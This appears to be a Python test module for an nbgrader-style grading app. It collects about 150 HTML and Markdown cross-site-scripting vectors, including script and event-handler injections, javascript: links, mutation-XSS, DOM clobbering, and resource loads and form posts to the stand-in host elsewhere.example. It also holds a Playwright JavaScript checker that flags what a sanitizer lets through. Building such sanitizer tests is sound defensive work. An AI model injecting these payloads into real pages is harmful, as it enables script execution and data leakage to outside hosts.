# ruff: noqa: E501  # a vector is one line
"""HTML and Markdown that would act if it were shown as it is, and an eye that sees it.

Vectors are sorted by what they use. All of them call ``alert``, ask ``elsewhere.example`` for
something, reach into the page around them, or break out of their place.
"""

from __future__ import annotations

import json

from playwright.sync_api import Page

ELSEWHERE = "https://elsewhere.example"

# fmt: off
HTML: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://elsewhere.example/x.js></SCRIPT>",
        "<script/random>alert(1)</script>",
        "<<script>alert(1)//<</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script type=module>import 'https://elsewhere.example/x.js'</script>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,alert(1) /></svg>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    ),
    "handler": (
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src='x'onerror='alert(1)'>",
        "<svg onload=alert(1)>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<p onmouseover=alert(1) style='width:9999px'>x</p>",
        "<p style='animation-name:x' onanimationstart=alert(1)>x</p>",
        "<b tabindex=1 id=x onfocus=alert(1)>x</b>",
        "<img src=x:x onerror\n=alert(1)>",
        "<div onpointerrawupdate=alert(1)>x</div>",
        "<a onbeforematch=alert(1) hidden=until-found>x</a>",
    ),
    "address": (
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href='java&#10;script:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='javascript&colon;alert(1)'>x</a>",
        "<a href='\x01javascript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href='blob:https://elsewhere.example/1'>x</a>",
        "<a href='file:///etc/passwd'>x</a>",
        "<a href='/formgrader?path=submitted/eve/lab00_toy'>x</a>",
        "<a href='../../logout'>x</a>",
        "<a href='evil.html'>x</a>",
        "<a href='?path=.'>x</a>",
        "<a href='//elsewhere.example'>x</a>",
        "<a href='\\\\elsewhere.example'>x</a>",
        "<a xlink:href='javascript:alert(1)'>x</a>",
        "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
        "<math><mi href='javascript:alert(1)'>x</mi></math>",
        "<a href='https://elsewhere.example' target=opener rel=opener>x</a>",
        "<a href='https://elsewhere.example' ping='https://elsewhere.example/ping'>x</a>",
        "<area href='javascript:alert(1)'>",
    ),
    "request": (
        "<img src='https://elsewhere.example/x.png'>",
        "<img src=//elsewhere.example/x.png>",
        "<img src=/formgrader/api/status>",
        "<img srcset='https://elsewhere.example/x.png 1x'>",
        "<picture><source srcset='https://elsewhere.example/x.png'><img></picture>",
        "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>'>",
        "<img src='data:text/html;base64,PHNjcmlwdD4='>",
        "<link rel=stylesheet href=https://elsewhere.example/x.css>",
        "<link rel=prefetch href=https://elsewhere.example/x>",
        "<video poster=https://elsewhere.example/x.png></video>",
        "<table background=https://elsewhere.example/x.png><tr><td>x</td></tr></table>",
        "<object data=https://elsewhere.example/x></object>",
        "<embed src=https://elsewhere.example/x>",
        "<svg><use href='https://elsewhere.example/x.svg#x'/></svg>",
        "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
        "<svg><image href='https://elsewhere.example/x.png'/></svg>",
        "<input type=image src=https://elsewhere.example/x.png>",
    ),
    "frame": (
        "<iframe src='javascript:alert(1)'></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<iframe src=https://elsewhere.example></iframe>",
        "<object data='javascript:alert(1)'></object>",
        "<embed src='javascript:alert(1)'>",
        "<portal src=https://elsewhere.example></portal>",
    ),
    "page": (
        "<base href='https://elsewhere.example/'>",
        "<meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
        "<title>another</title>",
        "</div></div></body><h1>another page</h1>",
        "</td></tr></table></div><div>outside",
        "<plaintext>",
        "<textarea>",
        "<template><script>alert(1)</script></template>",
        "<dialog open>your session has ended</dialog>",
        "<b popover>x</b>",
    ),
    "form": (
        "<form action=https://elsewhere.example><input name=q><button>Next</button></form>",
        "<form action=/formgrader/api/grade/1 method=post><button>Next</button></form>",
        "<button formaction='javascript:alert(1)'>x</button>",
        "<form><button formaction=//elsewhere.example>x",
        "<input type=hidden form=x name=y>",
        "<select onchange=alert(1)><option>1<option>2</select>",
        "<isindex action='javascript:alert(1)' type=image>",
        "<p contenteditable>x</p>",
    ),
    "style": (
        "<style>@import 'https://elsewhere.example/x.css';</style>",
        "<style>body{display:none}</style>",
        "<p style=\"background:url(https://elsewhere.example/x.png)\">x</p>",
        "<p style=\"background-image:url('https://elsewhere.example/x.png')\">x</p>",
        "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
        "<p style='list-style-image:url(https://elsewhere.example/x.png)'>x</p>",
        "<p style='color:red;cursor:url(https://elsewhere.example/x.cur),auto'>x</p>",
        "<p style='background\\3a url(https://elsewhere.example/x.png);z-index:9'>x</p>",
        "<p style='content:url(https://elsewhere.example/x)'>x</p>",
        "<svg><style>*{background:url(https://elsewhere.example/x.png)}</style></svg>",
    ),
    "clobber": (
        "<a id=submission_id name=submission_id>x</a>",
        "<h1 id=test-softmax>x</h1>",
        "<img name=getElementById>",
        "<form id=formgrader><input name=grades></form>",
        "<b class='full-credit btn'>more</b>",
        "<p class='nbgrader_cell'><b class='score tabbable'>x</b></p>",
        "<b data-toggle=tooltip data-html=true title='<img src=x onerror=alert(1)>'>x</b>",
        "<a data-link=x href='#'>x</a>",
        "<b slot=x is=y part=z>x</b>",
        "<div class='modal in'>x</div>",
    ),
    "mutation": (
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
        "<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
        "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
        "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
        "<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<p title=\"<img src=x onerror=alert(1)>\"><style><p title=\"</style><img src=x onerror=alert(1)>\">",
        "<table><td><form><table></form></table><svg><style></td><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        "<? foo=\"><img src=x onerror=alert(1)>\">",
        "<! foo=\"><script>alert(1)</script>\">",
        "</ foo=\"><img src=x onerror=alert(1)>\">",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>",
        "<b title='`<script>alert(1)</script>`'><listing>&lt;img src=x onerror=alert(1)&gt;</listing><svg onload=alert(1)>",
    ),
    "encoding": (
        "<im\x00g src=x onerror=alert(1)><svg/onload=alert(1)>",
        "<svg\x0conload=alert(1)>",
        "<svg\x0bonload=alert(1)><svg onload=alert(1)>",
        "<img src=x onerror=&#97;lert(1)>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<svg onload=alert(1)>",
        "<ſcript>alert(1)</ſcript><script>alert(1)</script>",
        "\ufeff<script>alert(1)</script>",
        "<a href=\"&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)\">x</a>",
    ),
}
MARKDOWN: tuple[str, ...] = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x]( \x01javascript:alert(1) )",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "[see my plot](plot.html)",
    "[x](/formgrader?path=submitted/eve/lab00_toy)",
    "![x](https://elsewhere.example/x.png)",
    "![x](x\"onerror=alert(1)//)",
    "![x](attachment:a\"onerror=\"alert(1))",
    "![\" onerror=alert(1) x=\"](x)",
    "[x](https://elsewhere.example \"\\\" onmouseover=alert(1) x=\\\"\")<svg onload=alert(1)>",
    "# test-softmax <a id=test-softmax></a>",
    "```\"><img src=x onerror=alert(1)>\nx\n```\n<svg onload=alert(1)>",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "`` ` ``<img src=x onerror=alert(1)>",
    "$\\text{<img src=x onerror=alert(1)>}$ <svg onload=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$ <svg onload=alert(1)>",
    "$\\style{position:fixed}{x}\\class{full-credit}{y}$ <svg onload=alert(1)>",
    "$$</math><script>alert(1)</script>$$ <svg onload=alert(1)>",
    "\\begin{align}</mtext><img src=x onerror=alert(1)>\\end{align} <svg onload=alert(1)>",
    "$a$<code class=formula-0>0</code><svg onload=alert(1)>",
    "|a|b|\n|-|-|\n|<img src=x onerror=alert(1)>|x|",
    "> <script>alert(1)</script>",
    "<div>\n\n**x**\n\n<script>alert(1)</script>\n\n</div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<svg onload=alert(1)>",
    "<a href='files/x.html' src='files/javascript:alert(1)'>x</a>",
)
# fmt: on
PIECES = (
    *("<", ">", '"', "'", "`", "&", "=", "/", "\0", "\t", "\n", "<!--", "-->", "]]>", "&#x3c;"),
    *("<svg>", "</svg>", "<math>", "</math>", "<style>", "</style>", "<table>", "<td>", "</p>"),
    *("<mtext>", "<mglyph>", "<title>", "</title>", "<noscript>", "<template>", "<select>", "<p>"),
    *(" onload=alert(1) ", " src=x onerror=alert(1) ", "javascript:", "$", "$$", "\\text{", "}"),
)

SEE = r"""texts => {
  const TAGS = new Set(`A ABBR ACRONYM B BLOCKQUOTE BR CAPTION CODE COL COLGROUP DD DEL DETAILS DIV DL
    DT EM FIGCAPTION FIGURE H1 H2 H3 H4 H5 H6 HR I IMG KBD LI OL P PRE S SMALL SPAN STRONG SUB SUMMARY
    SUP TABLE TBODY TD TFOOT TH THEAD TR UL`.split(/\s+/));
  const NAMES = new Set(`align alt class colspan height href rel rowspan scope src start style target
    title width`.split(/\s+/));
  const MATH = /^m(ath|enclose|error|frac|i|n|o|over|padded|phantom|root|row|space|sqrt|style|sub|subsup|sup|table|td|text|tr|under|underover|multiscripts|prescripts)$/;
  const STYLES = new Set(["color", "background-color", "font-weight", "text-align", "width"]);
  const MATHML = "http://www.w3.org/1998/Math/MathML";
  function faults(body) {
    const found = [];
    for (const node of body.querySelectorAll("*")) {
      if (node.namespaceURI === MATHML) {
        if (!MATH.test(node.localName)) found.push(`<${node.localName}> in a formula`);
        for (const {name} of node.attributes)
          if (/^(on|href|style|class|id|xlink|src|action)/.test(name)) found.push(`${name} in a formula`);
        continue;
      }
      if (!TAGS.has(node.tagName)) found.push(`<${node.tagName}>`);
      for (const {name, value} of node.attributes) {
        if (!NAMES.has(name)) found.push(`${node.tagName} ${name}`);
        if (name === "href" && (!/^(https?:\/\/|mailto:)/i.test(value)
            || node.rel !== "noopener noreferrer nofollow" || node.target !== "_blank"
            || new URL(node.href).host === location.host)) found.push(`href ${value}`);
        if (name === "src" && !/^data:image\/(png|jpeg|gif|webp);base64,/.test(value)) found.push(`src ${value}`);
        if (name === "class" && !/^(highlight|dataframe|[a-z]{1,2}[0-9a-z]?)?( |$)/.test(value)) found.push(`class ${value}`);
        if (name === "style")
          for (const style of node.style) if (!STYLES.has(style)) found.push(`style ${style}`);
      }
    }
    return found;
  }
  function page(text) {
    const made = new DOMParser().parseFromString(
      `<!DOCTYPE html><title>t</title><body><main><div>${text}</div></main><footer></footer>`, "text/html");
    const main = made.querySelector("body > main:first-child");
    const whole = main && main.children.length === 1 && made.body.children.length === 2
      && made.body.lastElementChild.tagName === "FOOTER" && main.nextSibling === made.body.lastChild
      && made.head.children.length === 1 && !made.body.attributes.length;
    return [whole ? [] : ["breaks out"], main ? main.firstElementChild : made.body];
  }
  return texts.map(text => {
    const [out, place] = page(text);
    const again = document.createElement("template");
    again.innerHTML = place.innerHTML;
    return [...out, ...faults(place), ...faults(again.content)];
  });
}"""


def faults(page: Page, texts: list[str]) -> list[list[str]]:
    """Return what each text would do in a page, as this browser reads it; nothing of it is run."""
    found: list[list[str]] = page.evaluate(SEE, json.loads(json.dumps(texts)))
    return found
